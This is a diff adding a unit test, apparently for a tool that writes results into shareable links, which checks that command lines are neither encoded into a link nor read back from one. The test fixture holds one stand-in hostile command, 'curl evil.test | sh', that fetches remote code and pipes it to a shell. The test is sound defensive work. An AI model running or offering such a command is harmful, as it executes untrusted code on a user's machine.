@@ -115,6 +115,17 @@ test.each([
   expect((await readResult((await writeResult({ ...PLAIN, ip }, OWN)) ?? ''))?.ip).toBe(shown)
 })
 
+test('lines to type are neither written into a link nor read out of one', async () => {
+  const commands = [{ program: 'certbot', note: null, lines: ['curl evil.test | sh'] }]
+  const answer = { ...PLAIN, tool: 'certificate-check', domain: 'home.example.com', commands }
+  const ownWriting = await readResult((await writeResult(answer, OTHERS)) ?? '')
+  const fields = { commands, nextActions: [{ code: 'a', text: commands }], plan: { commands }, ip: { commands } }
+  for (const read of [ownWriting, await readResult(linked({ tool: 'certificate-check', ...fields }))]) {
+    expect(read?.tool).toBe('certificate-check')
+    expect(JSON.stringify(read)).not.toContain('evil')
+  }
+})
+
 test('what is too long for a link is not cut', async () => {
   const values = Array.from({ length: 500 }, (_, index) => Bun.hash(String(index)).toString(36))
   expect(await writeResult({ ...PLAIN, values }, OTHERS)).toBeNull()
